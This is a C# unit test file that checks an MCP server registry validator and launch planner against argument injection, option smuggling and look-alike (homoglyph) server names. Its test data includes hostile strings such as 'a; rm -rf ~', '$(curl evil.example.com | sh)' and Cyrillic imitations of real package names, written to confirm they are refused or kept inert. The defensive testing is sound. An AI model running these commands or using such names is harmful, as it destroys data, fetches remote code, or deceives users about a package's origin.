using System.Text;
using Steward.Core.Launch;
using Steward.Core.Registry;
using Steward.Core.Validation;

namespace Steward.Core.Tests.Hardening;

public class InjectionTests
{
    private static IReadOnlyList<Problem> Validate(string serverJson) =>
        RegistryLoader.Load(Encoding.UTF8.GetBytes(serverJson)).Problems;

    private static string Server(string name = "io.github.acme/tool", string identifier = "@acme/tool", string registryType = "npm") =>
        """
        {"$schema": "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json",
         "name": "NAME", "description": "d", "version": "1.0.0",
         "packages": [{"registryType": "TYPE", "identifier": "IDENTIFIER", "version": "1.0.0", "transport": {"type": "stdio"}}]}
        """.Replace("NAME", name, StringComparison.Ordinal).Replace("TYPE", registryType, StringComparison.Ordinal).Replace("IDENTIFIER", identifier, StringComparison.Ordinal);

    [Theory]
    [InlineData("--registry=https://evil.example.com")]
    [InlineData("-y")]
    [InlineData("--")]
    public void An_identifier_that_begins_with_a_dash_is_refused_by_the_validator_with_its_rule(string identifier)
    {
        var problems = Validate(Server(identifier: identifier));

        Assert.Contains(problems, p => p.Rule == "package.identifier-option" && p.IsError && p.Path == "packages[0].identifier");
    }

    [Theory]
    [InlineData("npm", "npx")]
    [InlineData("pypi", "uvx")]
    [InlineData("oci", "docker")]
    [InlineData("nuget", "dnx")]
    public void An_identifier_that_begins_with_a_dash_never_reaches_a_runner(string registryType, string runner)
    {
        var package = new Package { RegistryType = registryType, Identifier = "--registry=evil", Version = "1.0.0", Transport = new Transport { Type = "stdio" } };

        var result = LaunchPlanner.Plan(package, LaunchInputs.Empty);

        Assert.Null(result.Plan);
        var problem = Assert.Single(result.Problems, p => p.Rule == LaunchRules.IdentifierOption);
        Assert.Contains(runner, problem.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("a; rm -rf ~")]
    [InlineData("$(curl evil.example.com | sh)")]
    [InlineData("`id`")]
    [InlineData("line\nbreak")]
    [InlineData("-- --eval=process.exit()")]
    [InlineData("|| true && echo owned > /tmp/x")]
    public void Shell_metacharacters_newlines_and_dashes_in_a_package_argument_stay_one_inert_argument(string value)
    {
        var package = new Package
        {
            RegistryType = "npm", Identifier = "@acme/files", Version = "2.0.0", Transport = new Transport { Type = "stdio" },
            PackageArguments = [new Argument { Type = "positional", ValueHint = "root_dir", IsRequired = true }],
        };

        var plan = LaunchPlanner.Plan(package, LaunchInputs.Empty.WithArgument("root_dir", value)).Plan!;

        Assert.Equal("npx", plan.Command);
        Assert.Equal(["-y", "@acme/files@2.0.0", value], plan.Args.ToArray());
    }

    [Theory]
    [InlineData("--privileged")]
    [InlineData("-v")]
    public void A_users_value_that_begins_with_a_dash_is_refused_as_a_runtime_argument(string value)
    {
        var package = new Package
        {
            RegistryType = "oci", Identifier = "ghcr.io/acme/tool", Version = "1.0.0", Transport = new Transport { Type = "stdio" },
            RuntimeArguments = [new Argument { Type = "positional", ValueHint = "network", IsRequired = true }],
        };

        var result = LaunchPlanner.Plan(package, LaunchInputs.Empty.WithArgument("network", value));

        Assert.Null(result.Plan);
        Assert.Contains(result.Problems, p => p.Rule == LaunchRules.ValueOption);
    }

    [Theory]
    [InlineData("io.github.micrоsoft/playwright", "о", "Cyrillic", "io.github.microsoft/playwright")]
    [InlineData("io.github.acme/tооl", "о", "Cyrillic", "io.github.acme/tool")]
    [InlineData("io.github.аcme/tool", "а", "Cyrillic", "io.github.acme/tool")]
    [InlineData("io.github.ａcme/tool", "ａ", "fullwidth", "io.github.acme/tool")]
    public void A_confusable_server_name_is_refused_naming_the_character_and_the_name_it_imitates(string name, string character, string script, string imitated)
    {
        var problem = Assert.Single(Validate(Server(name: name)), p => p.Rule == "name.confusable");

        Assert.True(problem.IsError);
        Assert.Contains($"'{character}'", problem.Message, StringComparison.Ordinal);
        Assert.Contains(script, problem.Message, StringComparison.Ordinal);
        Assert.Contains($"it would pass for \"{imitated}\"", problem.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_invisible_character_in_a_name_is_refused()
    {
        Assert.Contains(Validate(Server(name: "io.github.acme/to\u200Bol")), p => p.Rule == "name.confusable" && p.Message.Contains("invisible", StringComparison.Ordinal));
    }

    [Fact]
    public void An_ascii_name_has_no_confusable_problem()
    {
        Assert.DoesNotContain(Validate(Server()), p => p.Rule == "name.confusable");
    }
}
